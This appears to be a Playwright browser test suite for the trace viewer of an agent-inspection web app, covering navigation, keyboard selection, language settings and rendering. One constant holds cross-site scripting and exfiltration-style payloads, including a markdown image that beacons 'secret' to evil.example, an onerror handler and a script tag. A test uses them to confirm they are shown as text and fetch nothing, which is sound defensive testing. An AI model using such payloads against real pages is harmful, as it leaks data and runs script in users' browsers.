"""The Traces page in a real browser: open, select by keyboard, read in full, fetch nothing."""

from __future__ import annotations

import json
import re

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

HOSTILE = (
    "![t](http://evil.example/p.png?d=secret) <img src=http://evil.example/i.png onerror=\"document.title='owned'\"> "
    "<script>document.title='owned'</script> [x](javascript:alert(1)) $5 to $7 :red[x] # no heading"
)

CLEAR = "rgba(0, 0, 0, 0)"


def chat_log(text: str) -> bytes:
    call = {"id": text, "type": "function", "function": {"name": text, "arguments": json.dumps({"q": text})}}
    messages = [
        {"role": "system", "content": text},
        {"role": "user", "content": text},
        {"role": "assistant", "content": text, "tool_calls": [call], "reasoning_content": text},
        {"role": "tool", "tool_call_id": text, "content": text},
        {"role": text, "content": text, "unknown": {"key": text}},
    ]
    return json.dumps({"messages": messages, "model": text}).encode()


def upload(lab, content: bytes, name: str = "log.json") -> None:
    lab.settled()  # a field that is being drawn anew loses its file
    lab.page.locator('input[type="file"]').set_input_files(
        {"name": name, "mimeType": "application/json", "buffer": content}
    )


def test_a_run_is_found_in_the_list_and_a_message_is_selected_by_keyboard(app: str, lab) -> None:
    lab.open(app)
    lab.key("g")
    lab.rows(7)
    expect(lab.status).to_contain_text("All checks hold.")
    lab.page.get_by_role("link", name="Open the trace").click()
    lab.rows(7)
    expect(lab.page).to_have_url(re.compile("trace=[0-9a-f]{12}"))
    expect(lab.page.get_by_role("figure", name="Tokens per step")).to_be_visible()
    lab.select(3)
    expect(lab.page).to_have_url(re.compile("message=3"))
    expect(lab.page.get_by_text("Message 3", exact=True)).to_be_visible()
    expect(lab.page.get_by_test_id("stCode").first).to_contain_text('"a": 2')


def test_a_link_to_a_message_opens_there(app: str, lab) -> None:
    lab.open(app)
    lab.key("g")
    lab.rows(7)
    expect(lab.status).to_contain_text("All checks hold.")
    run_id = re.search("run=([0-9a-f]{12})", lab.page.url)[1]
    lab.open(f"{app}/traces?trace={run_id}&message=6")
    expect(lab.page.get_by_text("Message 6", exact=True)).to_be_visible()
    lab.page.get_by_role("button", name="All traces").click()
    expect(lab.page.get_by_text("Press a title to open it.")).to_be_visible()
    expect(lab.page).not_to_have_url(re.compile("trace="))


def test_the_menu_marks_the_entry_of_traces_while_one_is_read(app: str, lab) -> None:
    def marked() -> list[str]:
        """The entries that stand out by their ground."""
        links = lab.page.get_by_test_id("stTopNavLink").all()
        grounds = [link.evaluate("link => getComputedStyle(link).backgroundColor") for link in links]
        return [link.inner_text().split()[-1] for link, ground in zip(links, grounds, strict=True) if ground != CLEAR]

    lab.open(f"{app}/traces")
    assert marked() == ["Traces"]
    lab.open_row(1)
    assert marked() == ["Traces"]
    upload(lab, many(2))
    lab.rows(2)
    assert marked() == ["Traces"]
    lab.page.get_by_test_id("stTopNavLink").filter(has_text="Run").click()
    expect(lab.button("Step")).to_be_visible()
    lab.settled()
    assert marked() == ["Run"]


def test_hostile_text_of_a_file_is_shown_as_it_is_and_fetches_nothing(app: str, lab) -> None:
    asked: list[str] = []
    lab.page.on("request", lambda request: asked.append(request.url))
    lab.open(f"{app}/traces")
    upload(lab, chat_log(HOSTILE), "<img src=x>.json")
    lab.rows(5)
    for row in range(1, 6):
        lab.select(row)
        expect(lab.page.get_by_text(f"Message {row}", exact=True)).to_be_visible()
        expect(lab.page.get_by_test_id("stCode").first).to_contain_text("![t](http://evil.example/p.png?d=secret) <img")
    expect(lab.page).to_have_title(re.compile("Agent Loop Lab|Traces"))
    assert [url for url in asked if "evil.example" in url] == []
    assert lab.page.locator("img[src*='evil']").count() == 0


def test_a_file_that_cannot_be_read_is_explained(app: str, lab) -> None:
    lab.open(f"{app}/traces")
    upload(lab, b"this is no JSON at all")
    expect(lab.page.get_by_text("That did not work")).to_be_visible()
    expect(lab.page.get_by_test_id("stMain")).to_contain_text("log.json")


def test_a_bundled_trace_is_opened_from_the_list_of_a_fresh_server(serve, tmp_path, lab) -> None:
    """The link to this page is the first request of all: the menu must be there although app.py was not asked for."""
    with serve(tmp_path) as server:
        lab.open(f"{server.url}/traces?lang=zh")
        expect(lab.page.get_by_role("link", name="运行")).to_be_visible()
        lab.cell(1, "自带")
        lab.open_row(1)
        expect(lab.page).to_have_url(re.compile("trace="))
        lab.cell(2, "用户")


def many(count: int) -> bytes:
    messages = [{"role": "user" if n % 2 == 0 else "assistant", "content": f"word {n + 1}"} for n in range(count)]
    return json.dumps({"messages": messages}).encode()


def test_a_chosen_language_stays_through_menu_links_and_reload(app: str, lab) -> None:
    lab.open(app)
    lab.page.get_by_text("中文").click()
    expect(lab.page).to_have_url(re.compile("lang=zh"))
    lab.page.get_by_role("link", name="轨迹").click()
    expect(lab.page.get_by_text("点标题即可打开")).to_be_visible()
    lab.page.get_by_role("link", name="运行").click()
    expect(lab.button("继续")).to_be_visible()
    lab.key("g")
    lab.rows(7)
    lab.page.get_by_role("link", name="打开轨迹").click()
    expect(lab.page.get_by_role("button", name="全部轨迹")).to_be_visible()
    expect(lab.page).to_have_url(re.compile("lang=zh"))
    lab.page.reload()
    lab.drawn()
    expect(lab.page.get_by_role("button", name="全部轨迹")).to_be_visible()


def test_back_goes_to_the_message_before_and_then_to_the_list(app: str, lab) -> None:
    lab.open(f"{app}/traces")
    lab.open_row(1)
    expect(lab.page).to_have_url(re.compile("trace="))
    lab.select(1)
    expect(lab.page.get_by_text("Message 1", exact=True)).to_be_visible()
    lab.select(2)
    expect(lab.page.get_by_text("Message 2", exact=True)).to_be_visible()
    lab.page.go_back()
    expect(lab.page.get_by_text("Message 1", exact=True)).to_be_visible()
    expect(lab.table.locator('tr[aria-rowindex="2"] td[aria-selected="true"]')).to_be_attached()
    lab.page.go_back()
    expect(lab.page.get_by_text("Message 1", exact=True)).to_be_hidden()
    lab.settled()
    lab.page.go_back()
    expect(lab.page.get_by_text("Press a title to open it.")).to_be_visible()
    lab.settled()
    lab.open_row(1)
    expect(lab.page).to_have_url(re.compile("trace="))


def test_the_menu_leads_from_a_trace_back_to_the_list(app: str, lab) -> None:
    lab.open(f"{app}/traces")
    lab.open_row(1)
    expect(lab.page).to_have_url(re.compile("trace="))
    lab.page.get_by_role("link", name="Traces").click()
    expect(lab.page.get_by_text("Press a title to open it.")).to_be_visible()


def test_selecting_a_row_does_not_send_a_long_table_again(app: str, lab) -> None:
    received: list[int] = []

    def watch(socket) -> None:
        socket.on("framereceived", lambda data: received.append(len(data)))

    lab.page.on("websocket", watch)
    lab.open(f"{app}/traces")
    upload(lab, many(12_000))
    lab.rows(5_000)
    lab.settled()
    received.clear()
    for row in (2, 4):
        lab.select(row)
        expect(lab.page.get_by_text(f"Message {row}", exact=True)).to_be_visible()
        lab.settled()
    assert sum(received) < 100_000


def test_the_newest_message_of_a_long_run_is_on_screen(app: str, lab) -> None:
    lab.open(f"{app}/?scenario=count_files")
    height = lab.page.get_by_test_id("stDataFrame").first.bounding_box()["height"]
    lab.key("g")
    lab.rows(7)
    lab.cell(7, "11")
    table = lab.page.get_by_test_id("stDataFrame").first
    assert table.bounding_box()["height"] == height
    lab.page.get_by_text("Show all 11 messages").click()
    lab.rows(11)


def test_the_text_of_the_messages_is_seen_on_a_phone(app: str, lab) -> None:
    """The browser holds only the cells of columns that are in sight."""
    lab.page.set_viewport_size({"width": 400, "height": 800})
    lab.page.goto(app)
    lab.cell(1, "计算助手")
    expect(lab.table).not_to_contain_text("Call id")
